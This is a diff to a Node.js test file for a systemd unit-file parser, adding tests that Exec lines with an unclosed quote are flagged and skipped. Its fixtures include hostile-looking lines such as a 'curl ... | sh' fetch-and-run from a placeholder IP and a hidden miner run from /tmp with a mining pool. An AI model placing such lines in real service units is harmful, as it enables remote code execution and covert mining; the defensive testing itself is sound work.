@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
-import { systemdUnit } from './systemd-unit.js';
+import { cutCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
+import { execQuoteOpen, systemdUnit } from './systemd-unit.js';
 
 const MTIME = Date.UTC(2024, 0, 1);
 const FIXTURES = 'test/fixtures/systemd-unit';
@@ -14,6 +14,8 @@ runSourceContract({
   source: systemdUnit,
   good,
   bad,
+  // the unit copied while an Exec line was written: it ends inside the quoted script
+  cut: cutCase(good, '[Service]\nExecStartPost=/bin/sh -c "curl -s http://203.0.113.7/cutmin', 'cutmin'),
   skip: {
     oversized:
       'the contract builds its input without mtimeMs, and a state source without a time reads nothing (FILE_NO_MTIME); rerun below with a time',
@@ -187,4 +189,33 @@ test('sniffs .service files and drop-ins under the unit directories only', () =>
   const byName = systemdUnit.sniff('[Unit]\nDescription=x\n', { name: 'found.service' });
   assert.ok(byName > 0 && byName < score('etc/systemd/system/x.service'));
   assert.equal(systemdUnit.sniff('hello', { name: 'found.service' }), 0);
+});
+
+test('systemd-unit: an Exec line that leaves a quote open is reported and not read, anywhere in the unit', async () => {
+  const head = '[Service]\nExecStart=/usr/bin/true\n';
+  for (const exec of [
+    "ExecStart=/tmp/.x/run --pool 'pool.example:3333",
+    'ExecStartPre=-/bin/sh -c "curl -s http://203.0.113.7/x | sh',
+    'ExecStart=/tmp/.x/run "--donate \\"1',
+  ]) {
+    for (const text of [`${head}${exec}\nExecStop=/usr/bin/true\n`, `${head}${exec}`]) {
+      const { events, issues } = await readAll(systemdUnit, memoryInput('x.service', text, withTime));
+      assert.deepEqual(
+        issues.map((i) => [i.line, i.code]),
+        [[3, 'UNIT_BAD_LINE']],
+        text,
+      );
+      assert.match(issues[0].reason, /quote open/);
+      assert.ok(!events.some((e) => e.coalmine.ref.line === 3), text);
+      assert.ok(events.length > 0, text);
+    }
+  }
+});
+
+test('execQuoteOpen follows systemd quoting: escapes count inside and outside quotes', () => {
+  assert.equal(execQuoteOpen('/bin/sh -c "echo \\"a\\" b"'), false);
+  assert.equal(execQuoteOpen("/bin/echo 'it\\'s'"), false);
+  assert.equal(execQuoteOpen('/bin/echo \\"a'), false);
+  assert.equal(execQuoteOpen("/bin/echo \"a 'b' c"), true);
+  assert.equal(execQuoteOpen('/bin/echo \'a "b" c'), true);
 });
